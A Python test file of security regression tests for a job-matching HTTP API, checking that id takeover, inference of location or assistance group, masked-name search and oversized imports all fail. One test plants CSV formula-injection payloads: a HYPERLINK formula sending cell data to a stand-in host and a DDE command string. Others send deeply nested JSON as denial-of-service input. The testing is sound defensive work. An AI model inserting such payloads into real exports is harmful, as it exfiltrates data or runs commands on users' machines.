"""Side doors (issue 12): each test performs an attack through the HTTP API and checks that it now
learns or changes nothing. On SQLite and, in CI, on PostgreSQL (the ``engine`` fixture).

Two areas as in test_api_access: 长安区 130102 (station A, employer E1 and E2) and 路北区 130203
(station B). Seeker S1 (disabled) and S2 (no group) are alike in everything else and live at the
same point of 长安区.
"""

from __future__ import annotations

import csv
import io
import json
import time

import pytest
from api_helpers import api_client, bearer, job, make_token, seeker

A, B = "130102", "130203"
POS = (38.0451, 114.5123)
B_POS = (39.62, 118.20)
PHONE_1 = "13812345678"


@pytest.fixture
def world(engine):
    engine.upsert_stations([
        {"id": "STA", "name": "长安站", "kind": "community", "region_code": A, "lat": POS[0], "lng": POS[1]},
        {"id": "STB", "name": "路北站", "kind": "community", "region_code": B, "lat": B_POS[0], "lng": B_POS[1]}])
    engine.upsert_employers([{"id": "E1", "name": "长安物流", "region_code": A},
                             {"id": "E2", "name": "长安快递", "region_code": A}])
    engine.upsert_jobs([
        job("J1", "仓库搬运工", employer_id="E1", employer_name="长安物流", region_code=A, lat=POS[0], lng=POS[1],
            wage_min=4000, wage_max=5500),
        job("J2", "快递分拣员", employer_id="E2", employer_name="长安快递", region_code=A, lat=POS[0], lng=POS[1],
            wage_min=4000, wage_max=5500)])
    like = {"region_code": A, "lat": POS[0], "lng": POS[1], "station_id": "STA", "desired_occupations": ["搬运工"],
            "birth_date": "1988-05-01", "gender": "男", "education": "senior_high"}
    engine.upsert_seekers([
        seeker("S1", name="王小明", phone=PHONE_1, address="长安区建设北大街12号", priority_groups=["disabled"], **like),
        seeker("S2", name="赵大海", **like),
        seeker("SB", name="李大力", region_code=B, lat=B_POS[0], lng=B_POS[1], station_id="STB")])
    tokens = {
        "station": make_token(engine, "station", region=A, name="长安站账号"),
        "station_b": make_token(engine, "station", region=B),
        "county": make_token(engine, "county", region=A),
        "province": make_token(engine, "province"),
        "e1": make_token(engine, "employer", employer="E1"),
        "e2": make_token(engine, "employer", employer="E2"),
        "platform": make_token(engine, "platform"),
    }
    with api_client(engine, role=None) as client:
        yield client, tokens, engine


def as_(tokens, who):
    return bearer(tokens[who])


def refer_with_consent(client, tokens, seeker_id, job_id, rid):
    r = client.post("/v1/referrals", json={"id": rid, "seeker_id": seeker_id, "job_id": job_id},
                    headers=as_(tokens, "station"))
    assert r.status_code == 201, r.text
    r = client.patch(f"/v1/referrals/{rid}", json={"consent": True}, headers=as_(tokens, "station"))
    assert r.status_code == 200, r.text


def contact_ids(cands: list[dict]) -> set[str]:
    return {m["summary"]["contact"]["seeker_id"] for m in cands if m["summary"].get("contact")}


# -- 1. a deleted id cannot be taken over ----------------------------------------------------------
def test_a_deleted_job_id_is_never_taken_over(world):
    client, tokens, engine = world
    refer_with_consent(client, tokens, "S1", "J2", "R2")
    assert client.get("/v1/seekers/S1", headers=as_(tokens, "e2")).json()["phone"] == PHONE_1
    assert client.delete("/v1/jobs/J2", headers=as_(tokens, "e2")).status_code == 204

    # E1 tries to recreate the id, by POST, PUT and import: refused, and nothing is written
    post = client.post("/v1/jobs", json=job("J2", "搬运工", region_code=A), headers=as_(tokens, "e1"))
    assert post.status_code == 409 and post.json()["field"] == "id"
    assert client.put("/v1/jobs/J2", json=job("J2", "搬运工", region_code=A), headers=as_(tokens, "e1")).status_code == 404
    imp = client.post("/v1/jobs/import", json=[job("J2", "搬运工", region_code=A)], headers=as_(tokens, "e1"))
    assert imp.status_code == 422 and imp.json()["errors"][0]["field"] == "id"
    assert engine.store.get_dicts("job", ["J2"]) == {}
    # ... so it inherits neither the referral nor the consent
    h = as_(tokens, "e1")
    assert client.get("/v1/referrals/R2", headers=h).status_code == 404
    assert client.get("/v1/referrals", headers=h).json()["count"] == 0
    assert client.get("/v1/seekers/S1", headers=h).status_code == 404
    assert PHONE_1 not in client.get("/v1/jobs/J1/candidates", headers=h).text


def test_a_deleted_seeker_id_is_never_taken_over_by_another_station(world):
    client, tokens, engine = world
    refer = client.post("/v1/referrals", json={"id": "RB", "seeker_id": "SB", "job_id": "J1", "notes": "低保户"},
                        headers=as_(tokens, "station_b"))
    assert refer.status_code == 201
    assert client.delete("/v1/seekers/SB", headers=as_(tokens, "station_b")).status_code == 204
    r = client.post("/v1/seekers", json=seeker("SB", name="冒名", region_code=A), headers=as_(tokens, "station"))
    assert r.status_code == 409
    assert client.put("/v1/seekers/SB", json=seeker("SB", region_code=A), headers=as_(tokens, "station")).status_code == 404
    assert client.get("/v1/referrals/RB", headers=as_(tokens, "station")).status_code == 404
    assert client.get("/v1/referrals", params={"seeker_id": "SB"}, headers=as_(tokens, "station")).json()["count"] == 0


def test_the_id_answers_do_not_tell_where_an_id_lives(world):
    """409 for an id in use in another area, for a deleted one and for one's own alike (and 404
    for a PUT of another's or a deleted one, as for a record one cannot see)."""
    client, tokens, engine = world
    assert client.delete("/v1/seekers/S2", headers=as_(tokens, "station")).status_code == 204
    h = as_(tokens, "station")
    answers = [client.post("/v1/seekers", json=seeker(i, region_code=A), headers=h) for i in ("SB", "S2", "S1")]
    assert {a.status_code for a in answers} == {409}
    assert len({a.text.replace(i, "") for a, i in zip(answers, ("SB", "S2", "S1"), strict=True)}) == 1
    puts = [client.put(f"/v1/seekers/{i}", json=seeker(i, region_code=A), headers=h) for i in ("SB", "S2", "NOPE9")]
    assert [p.status_code for p in puts[:2]] == [404, 404] and puts[2].status_code == 200
    assert puts[0].json().keys() == puts[1].json().keys()


# -- 5. consent follows the employer, not the job ----------------------------------------------------
def test_moving_a_job_does_not_move_consent(world):
    client, tokens, engine = world
    refer_with_consent(client, tokens, "S1", "J2", "R2")
    # the job is given to another employer (by staff): the referral and the consent stay with E2
    r = client.patch("/v1/jobs/J2", json={"employer_id": "E1"}, headers=as_(tokens, "province"))
    assert r.status_code == 200
    h = as_(tokens, "e1")
    assert client.get("/v1/referrals/R2", headers=h).status_code == 404
    assert client.get("/v1/seekers/S1", headers=h).status_code == 404
    assert "S1" not in contact_ids(client.get("/v1/jobs/J2/candidates", headers=h).json())
    assert PHONE_1 not in client.get("/v1/jobs/J2/candidates", headers=h).text
    assert client.get("/v1/seekers/S1", headers=as_(tokens, "e2")).json()["phone"] == PHONE_1
    # consent is revocable, and a record of who gave and revoked it is kept
    assert client.patch("/v1/referrals/R2", json={"consent": False}, headers=as_(tokens, "station")).status_code == 200
    assert client.get("/v1/seekers/S1", headers=as_(tokens, "e2")).json()["phone"] != PHONE_1
    history = engine.store.access.consent_history("S1")
    assert [(c.employer_id, c.given_by, c.revoked_by is not None) for c in history] == [("E2", "长安站账号", True)]


# -- 2. an employer cannot locate a candidate ----------------------------------------------------------
def test_an_employer_learns_distance_in_bands_only(world):
    client, tokens, engine = world
    h = as_(tokens, "e1")
    profile = job("P", "仓库搬运工", region_code=A, wage_min=4000, wage_max=5500)
    shown = []
    for lat, lng in ((38.041, 114.505), (38.049, 114.515)):  # two points of one 0.05° cell
        r = client.post("/v1/matches/candidates", json={**profile, "lat": lat, "lng": lng}, headers=h)
        assert r.status_code == 200
        shown.append(r.json())
    assert shown[0] == shown[1] and shown[0], "moving the query point inside a grid cell changed the answer"
    for m in shown[0]:
        assert m["id"] not in ("S1", "S2") and m["id"].startswith("C")
        assert set(m["breakdown"]) >= {"distance_band"}
        assert not {"distance_km", "travel_minutes", "locality", "inside_circle", "priority"} & set(m["breakdown"])
        assert "station_id" not in m["summary"] and "region_code" not in m["summary"]
        assert m["summary"]["county_code"] in (A, B)
        assert not any("约" in r or "分钟" in r for r in m["reasons"])
    # staff still see the exact distance
    staff = client.post("/v1/matches/candidates", json={**profile, "lat": 38.041, "lng": 114.505},
                        headers=as_(tokens, "station")).json()
    assert all(m["breakdown"]["distance_km"] is not None for m in staff)


# -- 3. no group-dependent signal before consent ----------------------------------------------------------
def test_an_employer_cannot_infer_the_assistance_group(world):
    client, tokens, engine = world
    base = job("P", "仓库搬运工", region_code=A, lat=POS[0], lng=POS[1], wage_min=4000, wage_max=5500)
    variants = [{}, {"priority_groups_welcome": ["disabled"]}, {"accessible": True},
                {"priority_groups_welcome": ["disabled", "low_income"], "accessible": True}]
    staff = [client.post("/v1/matches/candidates", json={**base, **v}, headers=as_(tokens, "station")).json()
             for v in variants]
    by_id = {m["id"]: m for m in staff[1]}
    # the attack would work on the staff's view: S1's score moves with the welcome, S2's does not
    assert by_id["S1"]["breakdown"]["priority"] > 0 and by_id["S2"]["breakdown"]["priority"] == 0
    assert {m["id"]: m["score"] for m in staff[0]} != {m["id"]: m["score"] for m in staff[1]}

    employer = [client.post("/v1/matches/candidates", json={**base, **v}, headers=as_(tokens, "e1")).json()
                for v in variants]
    assert all(e == employer[0] for e in employer), "the employer's answer depends on the groups it welcomed"
    near = [m for m in employer[0] if m["breakdown"]["distance_band"] == "3公里内"]
    assert len(near) == 2 and employer[0][:2] == near
    s1, s2 = near
    # alike in all but the group: the same score, ordered by handle, no word about a priority
    assert s1["score"] == s2["score"] and s1["breakdown"] == s2["breakdown"]
    text = json.dumps(employer[0], ensure_ascii=False)
    assert "援助" not in text and "优先" not in text and "disabled" not in text and "残疾" not in text
    # the stored job, with a welcome set by the employer itself: the same
    assert client.patch("/v1/jobs/J1", json={"priority_groups_welcome": ["disabled"], "accessible": True},
                        headers=as_(tokens, "e1")).status_code == 200
    stored = client.get("/v1/jobs/J1/candidates", headers=as_(tokens, "e1")).json()
    near = [m for m in stored if m["breakdown"]["distance_band"] == "3公里内"]
    assert len(near) == 2 and near[0]["score"] == near[1]["score"] and "援助" not in json.dumps(stored, ensure_ascii=False)


# -- 4. the platform gets aggregates; every digest read with personal data is audited -------------------
def test_the_platform_digest_has_no_seekers_and_staff_reads_are_audited(world):
    client, tokens, engine = world
    hp = as_(tokens, "platform")
    for fmt in ("json", "csv", "html"):
        r = client.get("/v1/digests", params={"region_code": A, "format": fmt}, headers=hp)
        assert r.status_code == 200
        for secret in ("王小明", "赵大海", "李大力", "S1", "残疾", "138****"):
            assert secret not in r.text, (fmt, secret)
    data = client.get("/v1/digests", params={"region_code": A}, headers=hp).json()
    assert data["seekers"] == [] and data["seeker_summary"]["count"] == 2
    audit = client.get("/v1/audit", params={"action": "digest.read"}, headers=as_(tokens, "province")).json()
    assert audit["count"] == 0
    staff = client.get("/v1/digests", params={"station_id": "STA"}, headers=as_(tokens, "station")).json()
    assert {s["id"] for s in staff["seekers"]} == {"S1", "S2"}
    audit = client.get("/v1/audit", params={"action": "digest.read"}, headers=as_(tokens, "county")).json()
    assert {e["record_id"] for e in audit["data"]} == {"S1", "S2"}


# -- 6. no name search on masked fields --------------------------------------------------------------------
def test_an_employer_cannot_search_masked_names(world):
    client, tokens, engine = world
    refer_with_consent(client, tokens, "S2", "J1", "R1")
    client.patch("/v1/referrals/R1", json={"consent": False}, headers=as_(tokens, "station"))
    h = as_(tokens, "e1")
    assert client.get("/v1/seekers", headers=h).json()["data"][0]["name"] == "赵**"
    for params in ({"q": "赵大海"}, {"q": "赵"}, {"q": "5678"}, {"priority_group": "disabled"}, {"priority_group": "any"},
                   {"station_id": "STA"}, {"region_code": A}):
        r = client.get("/v1/seekers", params=params, headers=h)
        assert r.status_code == 403, params
    assert client.get("/v1/seekers", params={"q": "赵大海"}, headers=as_(tokens, "station")).json()["count"] == 1


# -- 7. imports: limits before allocation, bounded errors, no write lock while parsing ----------------------
def test_a_sparse_spreadsheet_is_refused_before_it_is_read(world):
    from openpyxl import Workbook

    client, tokens, engine = world
    wb = Workbook()
    ws = wb.active
    ws.append(["职位名称", "区划代码"])
    ws["ALL50000"] = "x"  # one cell: a reader would pad 50,000 rows to 1,000 columns
    buf = io.BytesIO()
    wb.save(buf)
    start = time.perf_counter()
    r = client.post("/v1/jobs/import", files={"file": ("big.xlsx", buf.getvalue())}, headers=as_(tokens, "station"))
    took = time.perf_counter() - start
    assert r.status_code == 422 and "列数" in r.json()["message"]
    assert len(r.content) < 2_000 and took < 5, (len(r.content), took)
    # a far row alone: refused by its number, not read
    wb = Workbook()
    wb.active.append(["职位名称", "区划代码"])
    wb.active["A1000000"] = "x"
    buf = io.BytesIO()
    wb.save(buf)
    r = client.post("/v1/jobs/import", files={"file": ("tall.xlsx", buf.getvalue())}, headers=as_(tokens, "station"))
    assert r.status_code == 422 and "行数" in r.json()["message"]


def test_import_limits_and_bounded_errors(world):
    client, tokens, engine = world
    h = as_(tokens, "station")
    wide = ",".join(f"c{i}" for i in range(500)) + "\n" + ",".join("x" for _ in range(500)) + "\n"
    r = client.post("/v1/jobs/import", files={"file": ("wide.csv", wide.encode())}, headers=h)
    assert r.status_code == 422 and "列数" in r.json()["message"]
    # 2,000 bad rows: the refusal lists a bounded number of them and says how many more
    bad = "职位名称,区划代码,招聘人数\n" + "".join(f"岗位{i},{A},-1\n" for i in range(2000))
    r = client.post("/v1/jobs/import", files={"file": ("bad.csv", bad.encode())}, headers=h)
    assert r.status_code == 422
    errs = r.json()["errors"]
    assert len(errs) == engine.settings.import_max_errors + 1 and errs[-1]["message"].startswith("另有")
    assert len(r.content) < 100_000
    # deeply nested JSON, as a body and as a JSONL line: refused, never a server error
    deep = "[" * 5000 + "]" * 5000
    r = client.post("/v1/jobs/import", content=deep, headers={**h, "Content-Type": "application/json"})
    assert r.status_code == 422 and "嵌套" in r.json()["message"]
    line = json.dumps(job("JX", "保洁员", region_code=A))[:-1] + ', "x": ' + "[" * 5000 + "]" * 5000 + "}\n"
    r = client.post("/v1/jobs/import", files={"file": ("deep.jsonl", line.encode())}, headers=h)
    assert r.status_code == 422 and "嵌套" in r.text
    r = client.post("/v1/jobs", content='{"title": ' + "[" * 5000 + "]" * 5000 + "}",
                    headers={**h, "Content-Type": "application/json"})
    assert r.status_code in (400, 422)


def test_an_import_is_parsed_outside_the_write_lock(world, monkeypatch):
    """While a file is being read and validated, another station's write goes through."""
    import threading

    import matcher.importing as importing

    client, tokens, engine = world
    parsing, release = threading.Event(), threading.Event()
    real = importing.parse_records

    def slow_parse(*args, **kwargs):
        parsing.set()
        release.wait(10)
        return real(*args, **kwargs)

    monkeypatch.setattr(importing, "parse_records", slow_parse)
    csv_text = f"岗位编号,职位名称,区划代码\nJC1,保洁员,{A}\n"
    result = {}

    def do_import():
        result["r"] = client.post("/v1/jobs/import", files={"file": ("a.csv", csv_text.encode())},
                                  headers=as_(tokens, "station"))

    t = threading.Thread(target=do_import)
    t.start()
    try:
        assert parsing.wait(10)
        start = time.perf_counter()
        r = client.patch("/v1/seekers/SB", json={"address": "新地址"}, headers=as_(tokens, "station_b"))
        assert r.status_code == 200 and time.perf_counter() - start < 5
    finally:
        release.set()
        t.join(30)
    assert result["r"].status_code == 200


# -- 8. formulas never reach a CSV ---------------------------------------------------------------------------
def test_csv_cells_never_start_a_formula(world):
    client, tokens, engine = world
    evil = job("JF", '=HYPERLINK("http://x.example/?"&A1,"点击")', employer_name="@SUM(1+1)", region_code=A,
               lat=POS[0], lng=POS[1], description="+cmd|' /C calc'!A0", wage_min=4000, wage_max=5500)
    assert client.post("/v1/jobs", json=evil, headers=as_(tokens, "province")).status_code == 201
    for who in ("station", "platform"):
        r = client.get("/v1/digests", params={"region_code": A, "format": "csv"}, headers=as_(tokens, who))
        rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
        assert len(rows) > 1
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@")) and not (cell.startswith("-") and not cell[1:2].isdigit()), cell
        if who == "platform":  # the aggregate digest lists every open job: the title is there, as text
            assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)


# -- 9. the rest ----------------------------------------------------------------------------------------------
def test_a_station_outside_the_area_is_refused(world):
    client, tokens, engine = world
    h = as_(tokens, "station")
    r = client.post("/v1/seekers", json=seeker("SN", region_code=A, station_id="STB"), headers=h)
    assert r.status_code == 404 and r.json()["field"] == "station_id"
    missing = client.post("/v1/seekers", json=seeker("SN", region_code=A, station_id="NOPE"), headers=h)
    assert missing.status_code == 404 and missing.json() == r.json()
    r = client.patch("/v1/seekers/S2", json={"station_id": "STB"}, headers=h)
    assert r.status_code == 404 and engine.store.get_dicts("seeker", ["S2"])["S2"]["station_id"] == "STA"
    r = client.post("/v1/referrals", json={"seeker_id": "S2", "job_id": "J1", "station_id": "STB"}, headers=h)
    assert r.status_code == 404 and r.json()["field"] == "station_id"


def test_referral_writes_go_through_the_workflow(world):
    client, tokens, engine = world
    h = as_(tokens, "station")
    r = client.put("/v1/referrals/RH", json={"seeker_id": "S2", "job_id": "J1", "status": "hired"}, headers=h)
    assert r.status_code == 422 and r.json()["field"] == "status"
    assert engine.store.get_dicts("seeker", ["S2"])["S2"].get("status", "unemployed") != "employed"
    r = client.post("/v1/referrals/import", json=[{"id": "RX", "seeker_id": "S2", "job_id": "NOJOB"},
                                                  {"id": "RY", "seeker_id": "S2", "job_id": "J1", "status": "hired"}],
                    headers=h)
    assert r.status_code == 422 and [e["field"] for e in r.json()["errors"]] == ["job_id", "status"]
    # a referral written whole is bound to the job's employer, whatever the body says
    r = client.put("/v1/referrals/RZ", json={"seeker_id": "S2", "job_id": "J1", "employer_id": "E2", "consent": True},
                   headers=h)
    assert r.status_code == 200 and r.json()["employer_id"] == "E1"
    assert client.get("/v1/seekers/S2", headers=as_(tokens, "e2")).status_code == 404
    assert client.get("/v1/seekers/S2", headers=as_(tokens, "e1")).status_code == 200
    assert "S2" in contact_ids(client.get("/v1/jobs/J1/candidates", headers=as_(tokens, "e1")).json())
    assert "S2" not in contact_ids(client.get("/v1/jobs/J2/candidates", headers=as_(tokens, "e2")).json())
    # the station's notes are not the employer's to read
    client.patch("/v1/referrals/RZ", json={"notes": "低保户，腿脚不便"}, headers=h)
    assert "低保" not in client.get("/v1/referrals/RZ", headers=as_(tokens, "e1")).text


def test_an_employer_cannot_post_under_another_name(world):
    client, tokens, engine = world
    r = client.post("/v1/jobs", json=job("JN", "保安员", employer_name="河北省人力资源和社会保障厅", region_code=A),
                    headers=as_(tokens, "e1"))
    assert r.status_code == 201 and r.json()["employer_name"] == "长安物流"
    r = client.patch("/v1/jobs/JN", json={"employer_name": "省人社厅"}, headers=as_(tokens, "e1"))
    assert r.json()["employer_name"] == "长安物流"


# -- 10. rate limits, caching, CSP ----------------------------------------------------------------------------
def test_rate_limits_answer_429_with_retry_after(engine):
    engine.upsert_employers([{"id": "E1", "name": "长安物流", "region_code": A}])
    engine.upsert_jobs([job("J1", "仓库搬运工", employer_id="E1", region_code=A)])
    with api_client(engine, role=None, rate_limit_per_minute=60, rate_limit_burst=5,
                    candidate_queries_per_hour=36) as client:
        h = bearer(make_token(engine, "province"))
        codes = [client.get("/v1/jobs", headers=h).status_code for _ in range(8)]
        assert codes[:5] == [200] * 5 and codes[-1] == 429
        r = client.get("/v1/jobs", headers=h)
        assert r.status_code == 429 and int(r.headers["Retry-After"]) >= 1 and r.json()["code"] == "rate_limited"
        # another account is not affected; an employer's candidate searches have their own limit
        e = bearer(make_token(engine, "employer", employer="E1"))
        codes = [client.get("/v1/jobs/J1/candidates", headers=e).status_code for _ in range(5)]
        assert codes[:3] == [200] * 3 and codes[-1] == 429
        log = engine.store.access.query_audit(action="candidates.query")
        assert log[1] == 3


def test_personal_data_is_not_cached_and_the_digest_page_runs_nothing(world):
    client, tokens, engine = world
    r = client.get("/v1/seekers/S1", headers=as_(tokens, "station"))
    assert r.headers["Cache-Control"] == "no-store"
    r = client.get("/v1/digests", params={"station_id": "STA", "format": "html"}, headers=as_(tokens, "station"))
    assert r.headers["Cache-Control"] == "no-store"
    csp = r.headers["Content-Security-Policy"]
    assert "default-src 'none'" in csp and "script-src" not in csp


def test_the_sqlite_file_is_private(tmp_path):
    import os
    import stat

    from matcher.store import Store

    path = tmp_path / "home" / "matcher.db"
    s = Store.open(f"sqlite:///{path}")
    s.close()
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600

